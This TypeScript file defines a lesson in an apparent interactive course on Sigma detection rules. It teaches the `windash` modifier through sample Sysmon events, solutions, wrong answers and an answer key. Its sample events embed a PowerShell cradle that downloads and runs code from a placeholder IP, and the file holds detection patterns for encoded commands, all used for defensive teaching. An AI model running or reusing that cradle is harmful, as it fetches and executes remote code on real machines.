import type { Lesson } from '../../../src/teach';
import { encoded, indented, lessonText, ruleWith, sysmonStart } from './writing';

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const PAYLOAD = encoded("IEX (iwr 'http://192.0.2.44/p')");

const started = (CommandLine: string, ParentImage = 'C:\\Windows\\System32\\cmd.exe') =>
  sysmonStart({ Image: POWERSHELL, CommandLine, User: 'LAB\\ana', ParentImage });

const rule = ruleWith(`
title: Encoded PowerShell Command
logsource:
    product: windows
    category: process_creation
`);

const withItem = (item: string) =>
  rule(String.raw`
selection_program:
    Image|endswith: '\powershell.exe'
selection_option:
${item.trim().replace(/^/gm, '    ')}
condition: all of selection_*
`);

const begun = withItem(`
CommandLine|contains:
    - ' -enc '
    - ' -EncodedCommand '
`);

export const anyDash: Lesson = {
  id: 'any-dash',
  title: 'Any dash will do',
  chapter: 'Modifiers',
  teaches: '`windash`: a dash that begins an option, in all its forms',
  minutes: 3,
  text: lessonText`
Whoever reads your rule knows how to slip past it. PowerShell takes \`-enc\`. It also takes \`/enc\`, and the longer
dashes that a word processor makes: \`–enc\`, \`—enc\`, \`―enc\`. All of them do the same. A rule with a hyphen sees one.

\`windash\` lets a dash stand for all five:

\`\`\`yaml
CommandLine|contains|windash: ' -nop '   # also ' /nop ', ' –nop ', …
\`\`\`

It changes only a dash that begins an option: before a letter or digit, and not behind one. The hyphen in
\`re-encode.ps1\` stays a hyphen.

Keep the blanks around the option. Without the one in front, \`-nop\` would also be found in the path \`C:/nop\`, since a
slash is one of the five.
`,
  task: 'rule',
  goal: 'Find the encoded commands, events 1 and 2. Leave the script that only sets an encoding, event 3.',
  rule: begun,
  events: indented(
    started(`powershell.exe -NoProfile -enc ${PAYLOAD}`),
    started(`powershell.exe /NoProfile /enc ${PAYLOAD}`),
    started('powershell.exe -NoProfile -File C:\\Ops\\re-encode.ps1 -Encoding utf8'),
  ),
  expected: ['match', 'match', 'no match'],
  held: [
    {
      kind: 'the option with a longer dash',
      tip: 'Do not list the dashes yourself: a modifier knows all five.',
      text: indented(started(`powershell.exe –enc ${PAYLOAD}`, 'C:\\Windows\\explorer.exe')),
      expected: 'match',
    },
    {
      kind: 'the option by its long name, with the longest dash',
      text: indented(started(`powershell.exe ―NoLogo ―EncodedCommand ${PAYLOAD}`)),
      expected: 'match',
    },
    {
      kind: 'a folder of that name behind a slash',
      tip: 'An option has a blank in front of its dash. Let the value begin with it.',
      text: indented(started('powershell.exe -Command Get-ChildItem D:/media/enc -Recurse')),
      expected: 'no match',
    },
  ],
  solutions: [
    {
      does: '`windash` lets each hyphen stand for all five dashes.',
      rule: withItem(`
CommandLine|contains|windash:
    - ' -enc '
    - ' -EncodedCommand '
`),
    },
    {
      does: 'An expression lists the five dashes itself. It works, but it is harder to read.',
      rule: withItem(String.raw`
CommandLine|re|i: '\s[-/–—―](enc|encodedcommand)\s'
`),
    },
  ],
  wrong: [
    {
      what: 'the slash is added to the list by hand',
      hint: { about: 'the option with a longer dash', says: '`windash`' },
      rule: withItem(`
CommandLine|contains:
    - ' -enc '
    - ' /enc '
    - ' -EncodedCommand '
    - ' /EncodedCommand '
`),
    },
    {
      what: 'no dash at all, so that it finds the letters anywhere',
      hint: { about: 'event 3', says: 'keep the blanks' },
      rule: withItem(`
CommandLine|contains: 'enc'
`),
    },
    {
      what: 'windash without the blank behind the option',
      hint: { about: 'event 3', says: 'keep the blanks' },
      rule: withItem(`
CommandLine|contains|windash: ' -enc'
`),
    },
    {
      what: 'windash without the blank in front of the option',
      hint: { about: 'a folder of that name behind a slash', says: 'a blank in front of its dash' },
      rule: withItem(`
CommandLine|contains|windash:
    - '-enc '
    - '-EncodedCommand '
`),
    },
    {
      what: 'windash in place of contains, so that the option must be the whole command line',
      hint: { about: 'event 1', says: 'Look for the value anywhere' },
      rule: withItem(`
CommandLine|windash:
    - ' -enc '
    - ' -EncodedCommand '
`),
    },
    {
      what: 'an expression that knows only two of the dashes',
      hint: { about: 'the option with a longer dash', says: 'a modifier knows all five' },
      rule: withItem(String.raw`
CommandLine|re|i: '\s[-/](enc|encodedcommand)\s'
`),
    },
  ],
  hints: [
    'Compare the dashes in events 1 and 2.',
    'The rule has a hyphen, and the event has another dash.',
    'Write `CommandLine|contains|windash`, and keep the blanks around each option.',
  ],
  starts: { in: 'rule', select: 'CommandLine|contains' },
};
